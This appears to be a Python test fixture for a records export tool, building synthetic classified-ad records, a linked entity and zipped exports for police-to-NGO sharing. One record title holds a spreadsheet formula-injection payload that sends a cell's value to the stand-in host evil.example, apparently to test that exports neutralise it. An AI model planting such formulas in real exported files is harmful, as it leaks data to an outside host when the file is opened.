"""A small synthetic case in the handler's shapes: three records, one of them hostile, and the entity that holds two."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

from minerva.exports import ExportRequest, ZipTarget, export
from minerva.linking.model import Entity, Join, read_row
from minerva.records import Column, Marking, Record, identify

TIME = "2026-11-20T10:00:00Z"
KEY = b"synthetic key of thirty-two bytes"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def request(name: str, **changes: Any) -> ExportRequest:
    given: dict[str, Any] = {
        "tenant_id": "northfield",
        "tenant_label": "Northfield Police",
        "recipient": "harbor_ngo",
        "level": "L4",
        "time": TIME,
        "expires": "2027-02-18T10:00:00Z",
        "policy_version": "2026-11.1",
        "purpose": "deconfliction",
        "case_number": "NF-2026-17",
        "handling": ["H2", "H1"],
        "query": {"identifier": "phone:+14155550123"},
        "withheld": {"records": 2, "fields": 5},
        **changes,
    }
    return ExportRequest.read(name, given)


def record(key: str, record_type: str = "ad", level: str = "L4", **texts: str) -> Record:
    columns = [Column("attributes.username", "username", "ann_rose", "instagram")] if key == "A-1" else []
    if record_type == "license":
        columns.append(Column("attributes.license", "license", "MT0012345", "massage"))
    return Record.build(
        record_type=record_type,
        source_id="classified_ads",
        tenant_id="northfield",
        natural_key=key,
        observed_time="2026-03-01T12:00:00Z",
        texts=texts,
        attributes={"price": "80", "tags": ["new", "-1+1"]},
        marking=Marking(level=level),
        evidence=identify({name: texts[name] for name in ("title", "text", "url") if name in texts}, columns),
    )


RECORDS = (
    record("A-1", title="Ask for Ann", text="call 415 555 0123 or ann@venue.example", city="Springfield", country="US"),
    record(
        "A-2", title=HOSTILE, text="+1 415 555 0123, see https://ads.example.org/a", url="https://ads.example.org/a"
    ),
    record("L-1", "license", name="Rose <Spa> & Co", address="1 Main St", city="Springfield", postcode="01101"),
    record("N-1", "notice", level="L5", title="No identifier here", text="Zoë — 中文 \U0001f339\r\nline two\x00\x07"),
)


def entity() -> dict[str, Any]:
    rows = [
        read_row({"record_id": each.record_id, "identifier": each.identifiers, "name": "@Ann", "city": "Springfield",
                  "source_id": each.source_id, "record_type": each.record_type, "time": "1772366400"})
        for each in RECORDS[:2]
    ]  # fmt: skip
    why = "both hold phone +14155550123"
    join = Join(rows[0].record_id, rows[1].record_id, "shared_identifier", "phone:+14155550123", 0.931, why)
    return Entity("e_0123456789abcdef", "northfield", tuple(rows), (join,), "These 2 records: phone in 2").to_document()


def items() -> list[dict[str, Any]]:
    return [*({"record": each.to_dict()} for each in RECORDS), {"entity": entity()}]


def files(name: str, given: list[dict[str, Any]] | None = None, **changes: Any) -> dict[str, bytes]:
    """The files of an export of the sample, by name."""
    return unpack(package(name, given, **changes))


def package(name: str, given: list[dict[str, Any]] | None = None, **changes: Any) -> bytes:
    """The zip of an export of the sample."""
    stream = io.BytesIO()
    key = KEY if name == "hashes" else b""
    export(request(name, **changes), items() if given is None else given, ZipTarget(stream), key=key)
    return stream.getvalue()


def unpack(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {each.filename: archive.read(each) for each in archive.infolist()}


def lines(name: str) -> bytes:
    """The input of the command line."""
    head = {"export": {"tenant_id": "northfield", "recipient": "harbor_ngo", "level": "L4", "time": TIME,
                       "policy_version": "2026-11.1", "purpose": "deconfliction"}}  # fmt: skip
    return b"".join(json.dumps(each).encode() + b"\n" for each in (head, *items()))
